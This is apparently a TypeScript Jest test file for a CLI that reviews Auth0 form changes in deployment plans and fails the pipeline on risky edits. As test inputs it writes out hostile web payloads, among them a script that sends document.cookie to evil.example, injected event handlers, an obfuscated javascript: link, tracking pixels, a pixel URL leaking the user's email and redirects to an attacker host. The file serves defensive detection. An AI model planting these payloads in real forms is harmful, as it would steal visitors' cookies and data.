import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { reviewCommand } from "../../cli/review";
import { type PlanJson, storedPlan, told, withForm } from "../support/stored-plans";

const DOCUMENT = readFileSync(join(__dirname, "..", "..", "docs", "review.md"), "utf8");
/** The list that docs/review.md recommends. */
const FAIL_ON = /`--fail-on ([a-z,-]+)`/.exec(DOCUMENT)?.[1] ?? "";

/** How the command ends that a pipeline runs. */
async function exitCodeOf(plan: PlanJson): Promise<number> {
  const folder = mkdtempSync(join(tmpdir(), "hostile-"));
  const file = join(folder, "plan.json");
  writeFileSync(file, JSON.stringify(plan));
  const said = jest.spyOn(process.stderr, "write").mockReturnValue(true);
  const code = await reviewCommand([file, "--out", join(folder, "review.md"), "--fail-on", FAIL_ON]);
  said.mockRestore();
  rmSync(folder, { recursive: true });
  return code;
}

/** A form as it stands, whose rich text is what the test says; with a CUSTOM component, a translation and CSS. */
function formWith(content: string, custom: object = {}): PlanJson {
  const plan = withForm(storedPlan("link-only"), "nodes", (nodes: Node[]) =>
    nodes.map((node) =>
      node.type !== "STEP"
        ? node
        : {
            ...node,
            config: {
              ...node.config,
              components: [
                ...(node.config.components ?? []).map((component) =>
                  component.type === "RICH_TEXT" ? { ...component, config: { content } } : component,
                ),
                { id: "own", category: "FIELD", type: "CUSTOM", config: { ...CUSTOM, ...custom } },
              ],
            },
          },
    ),
  );
  return withForm(plan, "translations", () => TRANSLATIONS);
}

interface Node {
  readonly type: string;
  readonly config: { readonly components?: readonly { readonly type: string; readonly config: object }[] };
}

const CUSTOM = {
  schema: {},
  code: "function own() {\n  return {};\n}\n",
  css: ".own { gap: 1rem }",
  params: { plan: "free" },
};
const TRANSLATIONS = { ja: { components: { role: { label: "役職" } } } };
const CONTENT = '<p>See <a href="https://example.com/privacy">privacy</a></p>';

/** A change of that form into this one. */
function changeTo(after: PlanJson, before = formWith(CONTENT)): PlanJson {
  const copy = structuredClone(after);
  for (const { type, change } of copy.resource_changes) {
    if (type === "auth0_form") {
      change.before = before.resource_changes.find((one) => one.type === type)?.change.after ?? null;
    }
  }
  return copy;
}

const PLAIN = formWith(CONTENT);
const withText = (content: string) => formWith(content);

describe("a pipeline with the recommended --fail-on stops where", () => {
  test.each([
    [
      "a link leads to another host",
      withText('<p>See <a href="https://evil.example/privacy">privacy</a></p>'),
      "leads-away: The form leads people to another address, or loads from it: `evil.example` (link in `role_rich_text` of stage `Role`); no longer `example.com`.",
    ],
    [
      "a script comes in",
      withText(`${CONTENT}<script>fetch('https://evil.example/'+document.cookie)</script>`),
      "runs-code: The form runs other code in people's browsers than before: `<script>fetch('https://evil.example/'+document.cookie)</script>` in `role_rich_text` of stage `Role`. It can read what they enter, and send it anywhere.",
    ],
    [
      "an event handler comes in",
      withText(`${CONTENT}<p onmouseover="steal()">x</p>`),
      'runs-code: The form runs other code in people\'s browsers than before: `<p onmouseover="steal()">` in `role_rich_text` of stage `Role`. It can read what they enter, and send it anywhere.',
    ],
    [
      "a link is code",
      withText(`${CONTENT}<a href="java&#x0a;script&colon;steal()">x</a>`),
      'runs-code: The form runs other code in people\'s browsers than before: `<a href="java⏎script:steal()">` in `role_rich_text` of stage `Role`. It can read what they enter, and send it anywhere.',
    ],
    [
      "the code of a CUSTOM component is another",
      formWith(CONTENT, { code: "function own() { return evil; }" }),
      "runs-code: The form runs other code in people's browsers than before: `function own() { return evil; }` in `own` of stage `Role`. It can read what they enter, and send it anywhere.",
    ],
    [
      "a parameter of a CUSTOM component is another",
      formWith(CONTENT, { params: { plan: "paid" } }),
      "hidden-data: What goes with the form unseen is another: `plan` `free` → `paid` in `own` of stage `Role`.",
    ],
    [
      "CSS hides a button",
      withForm(PLAIN, "style", () => ({ css: ".af-prevButton { display: none }" })),
      "style: The CSS changes, which can hide, move or cover what people see: nothing → `.af-prevButton { display: none }` in the CSS of the form.",
    ],
    [
      "a style inside of a rich text hides a button",
      withText(`${CONTENT}<style>button { opacity: 0 }</style>`),
      "style: The CSS changes, which can hide, move or cover what people see: nothing → `button { opacity: 0 }` in `role_rich_text` of stage `Role`.",
    ],
    [
      "CSS loads from another host",
      withForm(PLAIN, "style", () => ({ css: "p { background: url(\\2f\\2f evil.example/x.png) }" })),
      "leads-away: The form leads people to another address, or loads from it: `evil.example` (address in the CSS of the form).",
    ],
    [
      "an image tells who is there",
      withText(`${CONTENT}<img src=//evil.example/pixel.gif>`),
      "leads-away: The form leads people to another address, or loads from it: `evil.example` (image in `role_rich_text` of stage `Role`).",
    ],
    [
      "a link leads to what an expression says",
      withText('<p>See <a href="{{fields.url}}">privacy</a></p>'),
      "leads-away: The form leads people to another address, or loads from it: `{{fields.url}}` (link in `role_rich_text` of stage `Role`); no longer `example.com`.",
    ],
    [
      "an image tells a known host who is there",
      withText(`${CONTENT}<img src="https://example.com/{{context.user.email}}">`),
      "leads-away: The form leads people to another address, or loads from it: `example.com/…{{context.user.email}}` (image in `role_rich_text` of stage `Role`).",
    ],
    [
      "a form is sent to a host that only a link led to",
      withText(`${CONTENT}<form action="https://example.com/collect"></form>`),
      "leads-away: The form leads people to another address, or loads from it: `example.com` (where a form is sent to in `role_rich_text` of stage `Role`).",
    ],
    [
      "a label is another in another language",
      withForm(PLAIN, "translations", () => ({ ja: { components: { role: { label: "パスワード" } } } })),
      "translation: People read other texts in other languages: `label` `役職` → `パスワード` in the translation `ja` of `role`.",
    ],
    [
      "a hidden field is another",
      withForm(PLAIN, "start", (start: object) => ({ ...start, hidden_fields: [{ key: "plan", value: "paid" }] })),
      "hidden-data: What goes with the form unseen is another: `plan` nothing → `paid` in its hidden fields.",
    ],
    [
      "the ending leads elsewhere",
      withForm(PLAIN, "ending", () => ({ redirection: { target: "https://evil.example/" } })),
      "leads-away: The ending of the form leads people to `https://evil.example/`.",
    ],
  ])("%s", async (_, after, finding) => {
    const plan = changeTo(after);

    expect(told(plan).findings).toContain(finding);
    expect(FAIL_ON.split(",")).toContain(finding.split(":")[0]);
    expect(await exitCodeOf(plan)).toBe(2);
  });

  test("nothing of all that is found where nothing of it changes", async () => {
    const plan = changeTo(PLAIN);

    expect(told(plan).findings).toEqual([]);
    expect(await exitCodeOf(plan)).toBe(0);
  });
});

test("what people read in several other languages is told by the names of the languages", () => {
  const [ja, de] = ["パスワード", "Rolle"].map((label) => ({ components: { role: { label } } }));

  expect(told(changeTo(withForm(PLAIN, "translations", () => ({ ja, de })))).findings).toEqual([
    "translation: People read other texts in other languages: `label` nothing → `Rolle` in the translation `de` of `role`; `label` `役職` → `パスワード` in the translation `ja` of `role`.",
  ]);
});

test("of a new form it is said which code it runs, of the same code in several places once", () => {
  const plan = formWith(CONTENT);
  const twice = withForm(plan, "nodes", (nodes: Node[]) =>
    nodes.map((node) => {
      const components = node.config.components ?? [];
      const others = components.filter(({ type }) => type === "CUSTOM").map((one) => ({ ...one, id: "other" }));
      return { ...node, config: { ...node.config, components: [...components, ...others] } };
    }),
  );
  for (const { change } of twice.resource_changes) {
    change.actions = ["create"];
    change.before = null;
  }

  expect(told(twice).findings.filter((line) => line.startsWith("runs-code"))).toEqual([
    "runs-code: The form runs code in people's browsers: `function own() {⏎  return {};⏎}⏎` in `own` of stage `Role`, and in 1 more place. It can read what they enter, and send it anywhere.",
  ]);
});

test("however many hosts and scripts there are, none of them is left out", () => {
  const hosts = Array.from({ length: 9 }, (_, index) => `host-${index}.example`);
  const links = hosts.map((host) => `<a href="https://${host}/" onclick="at('${host}')">x</a>`).join("");
  const { findings } = told(changeTo(withText(CONTENT + links)));
  const [ran = "", led = ""] = findings;

  expect(hosts.filter((host) => !led.includes(`\`${host}\` (link in \`role_rich_text\` of stage \`Role\`)`))).toEqual(
    [],
  );
  expect(hosts.filter((host) => !ran.includes(`at('${host}')`))).toEqual([]);
});
